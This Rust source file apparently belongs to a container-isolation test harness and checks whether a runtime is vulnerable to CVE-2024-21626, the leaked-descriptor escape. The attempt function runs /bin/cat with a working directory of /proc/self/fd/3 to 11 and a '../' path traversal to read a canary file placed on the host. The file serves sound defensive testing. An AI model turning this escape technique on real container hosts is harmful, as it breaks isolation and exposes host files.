//! A working directory of /proc/self/fd/N: where the runtime leaks a descriptor of a directory of the host, that is where
//! the process finds itself, and the node's root is above it.
//!
//! Source: CVE-2024-21626.

use std::fs;

use bulkhead_integration::{HarnessError, Result};

use crate::{
    arena::Arena,
    column::{Column, Phase},
    technique::{Outcome, Outside, reason},
};

pub(crate) const THIS: Outside = Outside {
    source: "CVE-2024-21626",
    tries: "work in a descriptor that the runtime leaks, and read a file of the node",
    // As init gVisor 2024-07 leaves what it could not start, so that nobody can remove it.
    phases: &[Phase::Exec],
    attempt,
};

/// Descriptors that a runtime may have open when it starts a process.
const DESCRIPTORS: std::ops::Range<u32> = 3..12;

fn attempt(arena: &Arena, column: Column, _: Phase) -> Result<Outcome> {
    let secret = arena.fresh_directory("above")?.join("key");
    fs::write(&secret, "of the node\n").map_err(HarnessError::at("write", &secret))?;
    // Above the root of the host there is nothing more: too many steps up do not hurt.
    let path = format!("../../../../../../../..{}", secret.display());
    let command = ["/bin/cat", path.as_str()];
    let directories: Vec<String> = DESCRIPTORS.map(|number| format!("/proc/self/fd/{number}")).collect();
    let options: Vec<[&str; 2]> = directories.iter().map(|directory| ["--cwd", directory]).collect();
    let commands: Vec<(&[&str], &[&str])> =
        options.iter().map(|options| (options.as_slice(), command.as_slice())).collect();
    let outputs = arena.exec_each(column, &[], &commands)?;
    let bit = outputs.iter().zip(&directories).find(|(output, _)| output.stdout == "of the node\n");
    Ok(match (bit, outputs.last()) {
        (Some((_, directory)), _) => Outcome::Succeeded(format!("{directory} is a directory of the host")),
        (None, Some(last)) => Outcome::Stopped(reason(last)),
        (None, None) => Outcome::Stopped("nothing ran".to_owned()),
    })
}
